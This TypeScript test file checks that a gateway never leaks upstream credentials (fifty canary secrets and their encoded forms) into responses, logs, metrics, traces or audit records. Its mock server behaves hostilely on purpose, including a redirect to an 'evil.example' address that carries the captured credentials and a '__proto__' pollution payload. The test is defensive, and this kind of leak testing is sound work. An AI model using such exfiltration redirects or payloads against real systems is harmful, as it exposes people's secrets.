import { createHash } from 'node:crypto'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type Span, type Tracer, trace } from '@opentelemetry/api'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type Access, type Connector, fetchJson } from '../../contract/index.ts'
import { createHub } from '../../hub/index.ts'
import { shippedFichas } from '../admin/templates.ts'
import { testGateway } from '../testing/test-gateway.ts'
import { nodeTransport } from './node-transport.ts'

/** A system that repeats our credential in every way a broken one does. */
const echo = createServer((req, res) => {
  const seen = `${req.headers.authorization ?? ''} ${req.headers['x-key'] ?? ''} ${JSON.stringify(req.headers)}`
  const how = Number(/\d+/.exec(req.url ?? '')?.[0] ?? 0) % 7
  if (how === 0) {
    res.statusCode = 500
    res.end(seen)
  } else if (how === 1) {
    res.statusCode = 401
    res.setHeader('www-authenticate', `Bearer error="${seen.replaceAll('"', '')}"`)
    res.end(seen)
  } else if (how === 2) {
    res.writeHead(302, { location: `http://evil.example/?leak=${encodeURIComponent(seen)}` }).end()
  } else if (how === 3) res.end(`{"error": ${seen}`)
  else if (how === 4) req.socket.destroy()
  else if (how === 5) {
    res.statusCode = 429
    res.setHeader('retry-after', seen.slice(0, 20))
    res.end(seen)
  } else res.end(`{"__proto__":{"x":${JSON.stringify(seen)}}}`)
})
let origin = ''
const transport = nodeTransport()
beforeAll(async () => {
  await new Promise<void>((done) => echo.listen(0, '127.0.0.1', done))
  origin = `http://127.0.0.1:${(echo.address() as AddressInfo).port}`
})
afterAll(async () => {
  await transport.close()
  echo.closeAllConnections()
  echo.close()
})

/** As it is, and in the disguises that logs and errors give. */
const disguises = (secret: string) => [
  secret,
  Buffer.from(secret).toString('base64'),
  Buffer.from(`user:${secret}`).toString('base64'),
  Buffer.from(secret).toString('base64url'),
  encodeURIComponent(secret),
  Buffer.from(secret).toString('hex'),
  secret.slice(0, 12),
  secret.slice(-12),
]

/** What an operator's tracing would get. */
const spans: string[] = []
const quiet = {
  end() {},
  setStatus(status: object) {
    spans.push(JSON.stringify(status))
    return this
  },
} as unknown as Span
trace.setGlobalTracerProvider({
  getTracer: () =>
    ({
      startActiveSpan: (name: string, options: object, run: (span: Span) => unknown) => {
        spans.push(`${name} ${JSON.stringify(options)}`)
        return run(quiet)
      },
    }) as unknown as Tracer,
})

test('fifty credentials, every kind of access, every kind of failure: none in any answer, log line, metric, span or problem', async () => {
  const values = new Map(
    Array.from({ length: 50 }, (_, i) => [
      `KEY_${i}`,
      `canary-${i}-${createHash('sha256').update(`canary ${i}`).digest('hex')}`,
    ]),
  )
  const kinds = (secret: string): Access[] => [
    { kind: 'bearer', secret },
    { kind: 'header', header: 'x-key', secret },
    { kind: 'basic', user: 'user', secret },
    { kind: 'hmac-body', header: 'x-key', secret },
    { kind: 'oauth2', tokenUrl: `${origin}/token/1`, clientId: 'c', secret },
  ]
  const connectors = [...values.keys()].map(
    (secret, i): Connector => ({
      id: `c${i}`,
      title: `Sistema ${i}`,
      origins: [origin],
      access: kinds(secret)[i % 5] as Access,
      answers: {},
      find: {
        by: ['phone', 'mail'],
        run: async (_key, context) => {
          await fetchJson(context, `[c${i}] find`, `${origin}/find/${i}`)
          return { match: 'none' }
        },
      },
    }),
  )
  const t = await testGateway({
    fichas: shippedFichas,
    transport,
    hub: (ports) => createHub(ports),
    secrets: (name) => values.get(name),
    config: { connectors, network: { private: [origin] }, settings: { maxFinds: 200 } },
  })
  const token = await t.bearer()
  let out = ''
  for (const hint of [
    { kind: 'phone', value: '600123456' },
    { kind: 'mail', value: 'a@example.com' },
  ])
    out += await (await t.post('/v1/card', { hints: [hint] }, token)).text()
  for (const path of ['/metrics', '/openapi.json', '/healthz', '/readyz'])
    out += await (await t.gateway.fetch(new Request(`http://127.0.0.1:4174${path}`))).text()
  out += JSON.stringify(await t.stores.audit.read(1, 1_000)) + t.lines.join('\n') + spans.join('\n')
  expect(spans.filter((s) => s.startsWith('ficha.upstream')).length).toBeGreaterThan(50)
  expect(out).not.toMatch(/600123456|a@example/)
  // the systems were really asked, and really failed
  expect(out).toMatch(/"state":"down"/)
  expect(out).toMatch(/ficha_upstream_requests_total\{connector="c\d+"/)
  for (const [name, value] of values)
    for (const disguise of disguises(value))
      expect(out.includes(disguise), `${name} as ${disguise}`).toBe(false)
})
